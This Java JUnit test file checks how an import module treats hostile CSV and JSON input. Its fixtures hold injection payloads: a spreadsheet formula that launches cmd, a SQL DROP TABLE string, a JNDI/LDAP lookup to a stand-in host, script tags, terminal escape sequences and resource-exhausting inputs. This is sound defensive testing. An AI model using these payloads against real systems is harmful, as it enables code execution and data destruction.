package de.kim.local.load;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import de.kim.local.Trouble;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Files of somebody who means harm, on their way in, and what is written about them. */
class HostileFileTest {
    private static final LocalDate TODAY = LocalDate.of(2026, 11, 23);
    private static final String HEAD = "body,surname,birthDate,legalBasis\n";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=cmd|' /C calc'!A0",
                "+49",
                "-1",
                "@SUM(1)",
                "\uFF1D1",
                "'; DROP TABLE person;--",
                "${jndi:ldap://sample.example/a}",
                "<script>alert(1)</script>",
                "%s%n",
                "today+1"
            })
    void a_cell_is_text_and_is_sent_as_it_is(String surname) {
        var file = csv(HEAD + "abh-stadt,\"" + surname + "\",1990-02-28,OBLIGED_ABH\n");
        assertThat(file.rows().getFirst().fields().path("surname").asString()).isEqualTo(surname);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "birthDate|1900-02-29",
                "birthDate|2001-02-29",
                "birthDate|1990-02-28Z",
                "birthDate|1990-02-28T00:00",
                "birthDate|\u0661990-02-28",
                "birthDate|=TODAY()",
                "birthDate|today+999999",
                "birthDate|today-1-1",
                "birthDate|1990-02-28'--",
                "consent|true;--",
                "consent|TRUE()",
                "consent|\u0442rue",
                "recommendedSection|99999999999",
                "recommendedSection|1e1",
                "recommendedSection|=1",
                "recommendedSection|0x1",
                "available|MON 08:00Z-12:00",
                "available|MON 08:00-24:00",
                "available|MON 12:00-08:00",
                "available|MON",
                "available|\u041CON 08:00-12:00",
                "postalAddress|=1",
                "postalAddress|a;b;c;d"
            })
    void a_cell_that_cannot_be_is_named_and_the_rest_goes_on(String column, String cell) {
        var file =
                csv(
                        "body,legalBasis,%s\nabh-stadt,OBLIGED_ABH,\"%s\"\nabh-stadt,OBLIGED_ABH,\n"
                                .formatted(column, cell));
        assertThat(file.rejected()).hasSize(1);
        assertThat(file.rejected().getFirst().why()).startsWith(column);
        assertThat(file.rows()).hasSize(1);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\u001B[2J\u001B]0;owned\u0007",
                "1990\r\nline 7: taken",
                "\u202E1990",
                "1990\u0000",
                "1990\u20287"
            })
    void what_is_said_of_a_cell_commands_no_terminal(String cell) {
        var file =
                csv(
                        HEAD
                                + "abh-stadt,Muster,\""
                                + cell
                                + "\",OBLIGED_ABH\nabh-stadt,Muster,1990-01-02,OBLIGED_ABH\n");
        assertThat(file.rejected().getFirst().why())
                .contains("birthDate is no date")
                .doesNotContainPattern("[\\p{Cntrl}\\p{Cf}\\p{Zl}]");
    }

    @Test
    void a_cell_of_a_megabyte_is_not_said_again() {
        var file =
                csv(
                        HEAD
                                + "abh-stadt,Muster,"
                                + "9".repeat(1 << 20)
                                + ",OBLIGED_ABH\nabh-stadt,Muster,1990-01-02,OBLIGED_ABH\n");
        assertThat(file.rejected().getFirst().why()).hasSizeLessThan(400);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "\n\n\n",
                "body,legalBasis\n",
                "body,body,legalBasis\na,b,OBLIGED_ABH\n",
                ",,legalBasis\na,b,OBLIGED_ABH\n",
                "body,legalBasis\n\"abh-stadt,OBLIGED_ABH\n",
                "body,legalBasis\nabh-stadt,\"OBLIGED\"_ABH\n",
                "\"body,legalBasis",
                "\u0000\u0000\u0000",
                "PK\u0003\u0004"
            })
    void what_is_no_table_is_refused_in_a_sentence(String text) {
        assertThatThrownBy(() -> csv(text)).isInstanceOf(Trouble.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "7",
                "null",
                "{",
                "[}",
                "[1,2",
                "[{\"legalBasis\":1e999999999}]x",
                "[{\"a\":NaN}]"
            })
    void what_is_no_json_table_is_refused_in_a_sentence(String text) {
        assertThatThrownBy(() -> ImportFile.parse("some.json", text, TODAY))
                .isInstanceOf(Trouble.class);
    }

    @Test
    void json_without_a_floor_is_refused_in_a_sentence() {
        var deep = "[".repeat(200_000) + "]".repeat(200_000);
        assertThatThrownBy(() -> ImportFile.parse("some.json", deep, TODAY))
                .isInstanceOf(Trouble.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"=1+1", "+1", "-1", "@SUM(1)", "\uFF1D1", "\uFF0B1", "\uFF0D1", "\uFF20A"})
    void nothing_in_the_results_is_a_formula(String hostile, @TempDir Path folder)
            throws Exception {
        var result = folder.resolve("result.csv");
        var report =
                new ImportReport(
                        hostile + ".csv",
                        Kind.REFERRALS,
                        false,
                        List.of(RowResult.refused(2, hostile)));
        ResultFile.write(result, List.of(report));
        List<CSVRecord> lines;
        try (var reader = Files.newBufferedReader(result);
                var parser = CSVFormat.RFC4180.parse(reader)) {
            lines = parser.getRecords();
        }
        assertThat(lines.get(1).get(0)).isEqualTo("'" + hostile + ".csv");
        assertThat(lines.get(1).get(4)).isEqualTo("'" + hostile);
    }

    private static ImportFile csv(String text) {
        return ImportFile.parse("some.csv", text, TODAY);
    }
}
